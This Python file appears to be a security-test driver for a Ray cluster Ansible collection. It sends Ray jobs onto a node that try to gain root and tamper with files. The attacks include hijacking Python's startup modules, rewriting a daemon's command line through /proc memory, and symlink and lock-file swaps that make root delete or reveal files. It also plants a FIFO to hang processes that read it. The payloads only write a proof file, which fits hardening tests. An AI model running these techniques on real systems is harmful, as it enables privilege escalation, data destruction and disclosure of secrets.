# Copyright: (c) 2026, rayops.cluster contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a job tries on a node. The driver of a Ray job: ``attacks.py NODE ATTACK`` prints the answer as JSON.

Each attack runs in a task on the node, as whoever Ray's workers are, with what its Python has.
"""

from __future__ import annotations

import glob
import json
import os
import subprocess
import sys
import time

TEMP_DIR = "/var/lib/ray"
# Written by whatever of this runs as root: only root can make a file there.
PROOF = "/run/taken-by-a-job"
CODE = f"import os\nif os.geteuid() == 0:\n    open('{PROOF}', 'a').write(__file__ + chr(10))\n"


def in_background(code: str, seconds: int = 120) -> int:
    """Run a program that outlives the task, and end it in time; returns its process id."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        process = subprocess.Popen(
            ["timeout", str(seconds), sys.executable, "-c", code], start_new_session=True,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        os.write(writing, str(process.pid).encode())
        os._exit(0)
    os.wait()
    return int(os.read(reading, 20))


def leave_modules() -> str:
    """What a Python that is started with Ray's home, or in it, would import by itself."""
    version = subprocess.run(
        ["/usr/bin/python3", "-c", "import sys; print('%d.%d' % sys.version_info[:2])"],
        capture_output=True, text=True, check=True,
    ).stdout.strip()
    home = os.path.expanduser("~")
    folder = f"{home}/.local/lib/python{version}/site-packages"
    os.makedirs(folder, exist_ok=True)
    for path in (f"{folder}/usercustomize.py", f"{folder}/sitecustomize.py"):
        with open(path, "w", encoding="utf-8") as stream:
            stream.write(CODE)
    with open(f"{folder}/job.pth", "w", encoding="utf-8") as stream:
        stream.write("import usercustomize\n")
    return folder


def rename_environment() -> str:
    """Write another environment into the command line of the unit's main process, with a Python of the job's own."""
    pid = subprocess.run(
        ["systemctl", "show", "--value", "--property=MainPID", "ray-worker.service"],
        capture_output=True, text=True, check=True,
    ).stdout.strip()
    with open(f"/proc/{pid}/cmdline", "rb") as stream:
        argv = stream.read().split(b"\0")
    ray = next(word for word in argv if word.endswith(b"/bin/ray"))
    environment = ray[:-len(b"/bin/ray")].decode()
    own = "/tmp/".ljust(len(environment), "x")
    os.makedirs(f"{own}/bin", exist_ok=True)
    with open(f"{own}/bin/python", "w", encoding="utf-8") as stream:
        stream.write(
            f"#!/bin/sh\n[ $(id -u) != 0 ] || echo $0 >> {PROOF}\nexec {environment}/bin/python \"$@\"\n")
    os.chmod(f"{own}/bin/python", 0o755)
    with open(f"/proc/{pid}/stat", encoding="utf-8", errors="replace") as stream:
        fields = stream.read().rpartition(")")[2].split()
    start, end = int(fields[45]), int(fields[46])
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(start)
        text = memory.read(end - start).replace(environment.encode(), own.encode())
        memory.seek(start)
        memory.write(text)
    with open(f"/proc/{pid}/cmdline", "rb") as stream:
        assert own.encode() in stream.read()
    return own


def give_away_environment() -> str:
    """Let the state's directory be the environments': who gives one to Ray gives it the other."""
    os.rename(f"{TEMP_DIR}/gcs", f"{TEMP_DIR}/gcs-of-before")
    os.symlink("/opt/ray", f"{TEMP_DIR}/gcs")
    return os.readlink(f"{TEMP_DIR}/gcs")


def state_directory() -> str:
    return os.path.dirname(os.path.dirname(glob.glob(f"{TEMP_DIR}/gcs/*/kv/LOCK")[0]))


def lock_for_nobody() -> int:
    """Hold a lock of an open file: whose it is the kernel answers with process -1, which is everybody."""
    lock = f"{state_directory()}/kv/LOCK"
    os.rename(lock, f"{lock}-of-before")
    return in_background(
        "import fcntl, os, struct, time\n"
        f"descriptor = os.open({lock!r}, os.O_RDWR | os.O_CREAT, 0o644)\n"
        "fcntl.fcntl(descriptor, fcntl.F_OFD_SETLK, struct.pack('hhqqi4x', fcntl.F_WRLCK, 0, 0, 0, 0))\n"
        "time.sleep(300)\n")


def lock_of_a_daemon() -> str:
    """Let the lock be another daemon's."""
    lock = f"{state_directory()}/kv/LOCK"
    os.rename(lock, f"{lock}-of-before")
    os.symlink("/run/daemon.lock", lock)
    return lock


def locks_of_before() -> str:
    """Undo the two above."""
    lock = f"{state_directory()}/kv/LOCK"
    os.rename(f"{lock}-of-before", lock)
    return lock


def show_a_secret() -> str:
    """Let what the backup program reads of the state be a file of root's."""
    link = f"{state_directory()}/.restored"
    os.symlink("/root/diary/today.log", link)
    return link


def hang_readers() -> str:
    """Let a file that root reads be one that never ends."""
    path = f"{TEMP_DIR}/ray_current_cluster"
    if os.path.lexists(path):
        os.unlink(path)
    os.mkfifo(path)
    return path


def link_logs() -> int:
    """Let the logs be what only root may read, as soon as this task, which has a log, is over."""
    session = os.path.realpath(f"{TEMP_DIR}/session_latest")
    return in_background(
        "import os, time\n"
        f"os.chdir({session!r})\n"
        "time.sleep(1)\n"
        "os.rename('logs', 'logs-of-before')\n"
        "os.symlink('/root/diary', 'logs')\n")


def swap_while_removed() -> int:
    """Leave a stale socket in a directory that turns into a link and back: what root removes may lie elsewhere."""
    session = f"{TEMP_DIR}/session_2020-01-01_00-00-00_000000_1"
    return in_background(
        "import ctypes, os, select, socket, time\n"
        f"top = {session!r}\n"
        "os.makedirs(top + '/sockets', exist_ok=True)\n"
        "os.chdir(top)\n"
        "os.symlink('/srv/precious', 'link')\n"
        "libc = ctypes.CDLL(None)\n"
        "while True:\n"
        "    if not os.path.exists('sockets/raylet'):\n"
        "        stale = socket.socket(socket.AF_UNIX)\n"
        "        stale.bind('sockets/raylet')\n"
        "        stale.close()\n"
        # It waits until somebody has looked into the directory, and no more.
        "    watch = libc.inotify_init()\n"
        "    libc.inotify_add_watch(watch, b'sockets', 0x20)\n"
        "    select.select([watch], [], [])\n"
        "    while select.select([watch], [], [], 0.4)[0]:\n"
        "        os.read(watch, 4096)\n"
        "    os.close(watch)\n"
        "    os.rename('sockets', 'real')\n"
        "    os.rename('link', 'sockets')\n"
        "    time.sleep(8)\n"
        "    os.rename('sockets', 'link')\n"
        "    os.rename('real', 'sockets')\n", seconds=150)


def become_root() -> dict:
    """What a set-user-ID program, as which Ray's own user has none, would need."""
    with open("/proc/self/status", encoding="utf-8") as stream:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in stream if ":\t" in line)
    return {"user": os.geteuid(), "no_new_privs": status["NoNewPrivs"], "bounding": status["CapBnd"]}


def wait_for_marks() -> str:
    """Nothing to do here: the driver leaves demands whose names are marks of Ansible's own."""
    return "asked"


def main() -> None:
    import ray
    from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

    node_name, attack = sys.argv[1:]
    ray.init(address="auto", log_to_driver=False, logging_level="ERROR")
    if attack == "wait_for_marks":
        names = ("__ansible_type", "__ansible_unsafe", "_ansible_no_log", "__ansible_vault", "a\x1b[31mb")
        sleeper = ray.remote(wait_for_marks)
        left = [sleeper.options(num_cpus=0, resources={name: 1}).remote() for name in names]
        sys.stdout.write(f"ANSWER {json.dumps(len(left))}\n")
        sys.stdout.flush()
        time.sleep(120)
        return
    node = next(item["NodeID"] for item in ray.nodes() if item["NodeName"] == node_name and item["Alive"])
    place = NodeAffinitySchedulingStrategy(node, soft=False)
    task = ray.remote(globals()[attack]).options(num_cpus=0, max_retries=0, scheduling_strategy=place)
    try:
        answer = {"done": ray.get(task.remote(), timeout=60)}
    except Exception as error:
        answer = {"failed": str(error).strip().splitlines()[-1]}
    sys.stdout.write(f"ANSWER {json.dumps(answer)}\n")


if __name__ == "__main__":
    main()
